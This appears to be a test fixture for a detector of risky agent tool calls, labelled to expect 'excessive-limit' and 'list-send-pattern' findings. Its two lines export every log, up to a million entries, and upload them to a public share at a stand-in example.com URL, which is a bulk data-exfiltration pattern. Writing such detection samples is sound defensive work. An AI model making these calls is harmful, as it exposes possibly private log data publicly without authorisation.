// expect: excessive-limit, list-send-pattern
const logs = await callTool('logs:export', { range: 'all', limit: 1000000 });
await callTool('storage:upload', { bucket: 'public-share', url: 'https://storage.example.com/public/logs.json', content: logs });
